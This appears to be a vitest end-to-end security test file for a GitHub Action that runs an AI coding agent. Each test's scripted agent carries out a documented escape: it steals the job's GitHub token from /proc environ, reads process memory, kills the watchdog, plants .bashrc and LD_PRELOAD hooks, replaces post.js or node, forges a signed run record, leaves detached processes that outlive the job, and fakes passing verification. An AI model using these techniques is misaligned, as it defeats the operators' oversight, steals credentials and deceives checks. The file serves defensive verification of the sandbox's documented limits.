import { execFileSync } from 'node:child_process';
import { chmodSync, cpSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { ACTION_FOLDER } from '../../../sandbox/sandbox.ts';
import type { Behaviour } from '../../../sandbox/scripted-agent.ts';
import { createScene, type Run, type Scene } from '../e2e-fixture.ts';

// Each line of SECURITY.md about what an agent of the same user can still reach. One that fails here is closed: take it out there.

const FIND = `
main=$(awk '{print $4}' /proc/$PPID/stat)
run=$(dirname "$CLAUDE_CONFIG_DIR")
temp=$(dirname "$run")
files=$temp/_runner_file_commands
`;
const shell = (script: string): Behaviour => ({ kind: 'shell', script: `${FIND}${script}`, status: null });
const finishing = (script: string): Behaviour => ({
  kind: 'shell',
  script: `${FIND}mkdir -p src; echo 'export const count = 1;' > src/count.js\n${script}`,
});
const work: Behaviour = { kind: 'work' };

const REACH = `
token=$(tr '\\0' '\\n' < /proc/$main/environ | sed -n 's/^INPUT_GITHUB-TOKEN=//p')
git -c http.extraheader="Authorization: Basic $(printf 'x-access-token:%s' "$token" | base64 -w0)" \\
  push -q origin HEAD:refs/heads/by-the-agent
start=$(grep -m1 rw-p /proc/$main/maps | cut -d- -f1)
dd if=/proc/$main/mem bs=1 count=1 skip=$((16#$start)) of=/dev/null 2>/dev/null && echo read > "$temp/memory"
for process in /proc/[0-9]*; do
  [ "$(awk '{print $4}' $process/stat 2>/dev/null)" = $main ] || continue
  tr '\\0' ' ' < $process/cmdline | grep -q ' watchdog ' && kill -KILL \${process#/proc/} && echo ended > "$temp/watchdog"
done
echo 'echo planted in home' >> "$HOME/.bashrc"
echo '{"planted":true}' > "$temp/_github_workflow_event.json"
(cd /; exec env -i setsid sh -c 'for i in $(seq 600); do [ -e "$0/stop" ] && exec touch "$0/survived"; sleep 0.1; done' "$temp") >/dev/null 2>&1 </dev/null &
sleep 0.5
true`;

describe('in one call', () => {
  let scene: Scene | null = null;
  let staged: Promise<{ readonly scene: Scene; readonly run: Run; readonly temp: string }> | null = null;
  /** Played at the first test that looks. */
  const reached = () =>
    (staged ??= (async () => {
      scene = await createScene();
      scene.openIssue('Count');
      const run = await scene.run({ agent: [shell(REACH)] });
      return { scene, run, temp: join(run.machine, 'temp') };
    })());
  afterAll(() => scene?.[Symbol.asyncDispose]());

  test("the token in the environment of the action's process pushes what the agent likes", async () => {
    const { scene: of } = await reached();
    expect(await of.sandbox.git('rev-parse', 'by-the-agent')).toMatch(/^[0-9a-f]{40}/);
  });

  test("the memory of the action's process can be read, unless Yama forbids it", async () => {
    const { temp } = await reached();
    const yama = '/proc/sys/kernel/yama/ptrace_scope';
    const scope = existsSync(yama) ? Number(readFileSync(yama, 'utf8')) : 0;
    // Root may up to 2, everybody else at 0.
    const isForbidden = scope > (process.getuid?.() === 0 ? 2 : 0);
    expect(existsSync(join(temp, 'memory'))).toBe(!isForbidden);
  });

  test('the watchdog can be ended', async () => {
    const { temp } = await reached();
    expect(existsSync(join(temp, 'watchdog'))).toBe(true);
  });

  test('a shell of a later step runs what the agent wrote to the home folder', async () => {
    const { run } = await reached();
    const env = { PATH: process.env.PATH, HOME: join(run.machine, 'home') };
    const shown = execFileSync('bash', ['-i', '-c', 'true'], { env, stdio: ['ignore', 'pipe', 'ignore'] });
    expect(shown.toString().trim()).toBe('planted in home');
  });

  test("later steps read the event that the agent wrote among the runner's own files", async () => {
    const { temp } = await reached();
    expect(readFileSync(join(temp, '_github_workflow_event.json'), 'utf8').trim()).toBe('{"planted":true}');
  });

  test('a process that dropped its environment and its session lives on after the job', async () => {
    const { temp } = await reached();
    writeFileSync(join(temp, 'stop'), '');
    await expect.poll(() => existsSync(join(temp, 'survived')), { timeout: 10_000 }).toBe(true);
  });
});

/** Says so and ends whatever program it is loaded into. */
const PRELOADED = `
#include <unistd.h>
__attribute__((constructor)) static void planted(void) { if (write(1, "planted by LD_PRELOAD\\n", 22)) _exit(0); }`;
const hasCompiler = existsSync('/usr/bin/cc');

test.skipIf(!hasCompiler)(
  'LD_PRELOAD in GITHUB_ENV, and main ended before it could undo it: the post step is what the agent wants',
  async () => {
    await using scene = await createScene();
    scene.openIssue('Count');
    const library = join(scene.sandbox.folder, 'planted.so');
    execFileSync('/usr/bin/cc', ['-shared', '-fPIC', '-x', 'c', '-o', library, '-'], { input: PRELOADED });
    const run = await scene.run({ agent: [shell(`echo 'LD_PRELOAD=${library}' >> "$files/env"; kill -KILL $main`)] });
    expect(run.post.log.trim()).toBe('planted by LD_PRELOAD');
  },
);

test('a post.js that was changed before main was ended is what the post step is', async () => {
  await using scene = await createScene();
  scene.openIssue('Count');
  const action = join(scene.sandbox.folder, 'action');
  for (const name of ['action.yml', 'dist', 'templates'])
    cpSync(join(ACTION_FOLDER, name), join(action, name), { recursive: true });
  const post = join(action, 'dist', 'post.js');
  const run = await scene.run({
    action,
    agent: [shell(`sed -i '1i console.log("planted in post"); process.exit(0);' '${post}'; kill -KILL $main`)],
  });
  expect(run.post.log.trim()).toBe('planted in post');
});

test("the runner's Node, where its user can write it, is what the post step runs with", async () => {
  await using scene = await createScene();
  scene.openIssue('Count');
  const node = join(scene.sandbox.folder, 'node');
  symlinkSync(process.execPath, node);
  const replace = `rm '${node}'; printf '#!/bin/sh\\necho planted in node\\n' > '${node}'; chmod +x '${node}'`;
  const run = await scene.run({ node, agent: [shell(replace)] });
  expect(run.post.log.trim()).toBe('planted in node');
});

test('an older record of the same run is what post shows, after a main that was ended; what was done stays done', async () => {
  await using scene = await createScene();
  scene.openIssue('Count');
  scene.openIssue('Count on');
  const run = await scene.run({
    agent: [
      work,
      shell('cp "$run/run.json" "$temp/older"'),
      work,
      shell('rm "$run/run.json"; cp "$temp/older" "$run/run.json"; kill -KILL $main'),
    ],
  });
  expect(run.post.log).not.toContain('is not the one that the main step wrote');
  // Two were finished.
  expect(run.summary).toContain('| Iterations | 1 of 10');
  expect(run.post.log).toContain('Nothing was overwritten');
  expect(await scene.commitsOf('ralph/queue')).toEqual(['Count', 'Count, with a test']);
  expect(await stored(scene)).toMatchObject({ state: { tasks: { 'issue-1': { state: 'done' } } } });
});

/** Seals a record that says that the run ended, with what is in the environment of main. */
const FORGE = `
import { createHmac } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
const [main, folder] = process.argv.slice(2);
const lines = readFileSync(\`/proc/\${main}/environ\`, 'utf8').split('\\0');
const valueOf = (name) => (lines.find((line) => line.startsWith(name + '=')) ?? '').slice(name.length + 1).trim();
const textsOf = (names) => JSON.stringify(names.map(valueOf));
const digest = (key, text) => createHmac('sha256', key).update(text).digest();
const job = digest(
  textsOf(['INPUT_GITHUB-TOKEN', 'ACTIONS_RUNTIME_TOKEN']),
  textsOf(['RUNNER_TEMP', 'GITHUB_RUN_ID', 'GITHUB_RUN_ATTEMPT', 'GITHUB_JOB']),
);
const key = digest(job, 'key ' + folder.split('ralph-run-')[1]);
const [, record] = readFileSync(folder + '/run.json', 'utf8').split('\\n');
const text = JSON.stringify({ ...JSON.parse(record), stage: 'ended', claimed: null });
writeFileSync(folder + '/run.json', digest(key, 'run record\\n' + text).toString('hex') + '\\n' + text);`;

test('a record that the agent sealed with the token and that says that the run ended keeps post from doing anything', async () => {
  await using scene = await createScene();
  scene.openIssue('Count');
  const forge = join(scene.sandbox.folder, 'forge.mjs');
  writeFileSync(forge, FORGE);
  const run = await scene.run({ agent: [work, shell(`node '${forge}' $main "$run"; kill -KILL $main`)] });
  expect(run.main.signal).toBe('SIGKILL');
  expect(run.post.log.replaceAll(/^::add-mask::.*\n?/gm, '')).toBe('');
  expect(run.summary).toBe('');
  expect(scene.sandbox.github.state.pulls).toEqual([]);
  // The claim is still this run's.
  expect(await stored(scene)).toMatchObject({ lease: { runId: '1001' } });
});

test('what waits in the quarantine can be destroyed, but nothing else is published', async () => {
  await using scene = await createScene();
  scene.openIssue('Count');
  const run = await scene.run({
    agent: [
      work,
      shell(
        `cd "$run/git/quarantine"; git --git-dir=. hash-object -w --stdin <<< planted; rm -rf objects/??; rm -rf objects/pack`,
      ),
    ],
  });
  expect(run.outputs).toMatchObject({ outcome: 'failed', reason: 'infrastructure' });
  expect(await scene.commitsOf('ralph/queue')).toEqual(['Count']);
  expect(scene.pullOf('ralph/queue')).toMatchObject({ draft: true, status: { outcome: 'failed' } });
});

test.each([
  { where: 'in a large folder of the home folder', folder: 'home/.cargo/bin' },
  { where: 'in a folder of PATH outside of it', folder: 'toolcache' },
])('a tool $where that the agent replaced decides what the verification says', async ({ folder }) => {
  await using scene = await createScene();
  scene.openIssue('Count');
  let tool = '';
  const tools = join(scene.sandbox.folder, 'machine-1', folder);
  const run = await scene.run({
    env: { PATH: [tools, dirname(process.execPath), process.env.PATH ?? ''].join(':') },
    prepare: () => {
      mkdirSync(tools, { recursive: true });
      tool = join(tools, 'check-counts');
      writeFileSync(tool, '#!/bin/sh\nexit 1\n');
      chmodSync(tool, 0o755);
      writeFileSync(join(tools, 'large'), Buffer.alloc(1024 * 1024));
      return Promise.resolve();
    },
    inputs: { verify: 'check-counts', 'max-iterations': '1' },
    agent: [finishing(`printf '#!/bin/sh\\n' > "$(command -v check-counts)"`)],
  });
  expect(readFileSync(tool, 'utf8')).toBe('#!/bin/sh\n');
  expect(run.outputs).toMatchObject({ outcome: 'complete', 'tasks-done': '1' });
});

test.each([
  {
    where: 'above the clean clone under a name that nobody knows',
    verify: 'd=$PWD; until [ "$d" = / ]; do d=$(dirname "$d"); test -f "$d/settings.of-a-tool" && exit; done; exit 1',
    script: 'touch "$temp/../settings.of-a-tool"',
  },
  {
    where: 'in a fixed place of the machine',
    verify: 'test -f "$(cat node_modules/cache-folder)/passed"',
    script: 'touch "$(cat node_modules/cache-folder)/passed"',
  },
  {
    where: 'by an absolute path in an ignored file of a kind that nobody knows',
    verify: 'test -f "$(cat node_modules/built-in)/passed"',
    script: 'touch node_modules/passed',
  },
])('what the verification finds $where, where the agent left it, decides what it says', async ({ verify, script }) => {
  await using scene = await createScene();
  scene.openIssue('Count');
  const run = await scene.run({
    prepare: (workspace) => {
      const packages = join(workspace, 'node_modules');
      mkdirSync(packages);
      writeFileSync(join(packages, 'built-in'), packages);
      writeFileSync(join(packages, 'cache-folder'), scene.sandbox.folder);
      return Promise.resolve();
    },
    inputs: { verify, 'max-iterations': '1' },
    agent: [finishing(script)],
  });
  expect(run.outputs).toMatchObject({ outcome: 'complete', 'tasks-done': '1' });
});

/** Into every clean clone, that of the base and that of the head, until the run removes its folder; for a minute at most. */
const WRITE_INTO_CLONE = `for i in $(seq 1200); do
  [ -d "$0" ] || exit
  (cd "$0"/git/clean/*/.git 2>/dev/null && touch ../passed.log)
  sleep 0.05
done`;

test('an unmarked process that writes into the clean clone decides what the verification says', async () => {
  await using scene = await createScene();
  scene.openIssue('Count');
  const run = await scene.run({
    inputs: {
      verify: 'for i in $(seq 20); do sleep 0.1; test -f passed.log && exit; done; exit 1',
      'max-iterations': '1',
    },
    agent: [
      finishing(
        `touch passed.log\n(cd /; exec env -i PATH="$PATH" setsid sh -c '${WRITE_INTO_CLONE}' "$run") >/dev/null 2>&1 </dev/null &`,
      ),
    ],
  });
  expect(run.outputs).toMatchObject({ outcome: 'complete', 'tasks-done': '1' });
});

/** What the queue's ref holds. */
async function stored({ sandbox }: Scene): Promise<{ readonly state: unknown; readonly lease: unknown }> {
  const record = JSON.parse(await sandbox.git('show', 'refs/ralph/state/queue:state.json')) as {
    readonly document: string;
    readonly lease: unknown;
  };
  return { state: JSON.parse(record.document), lease: record.lease };
}
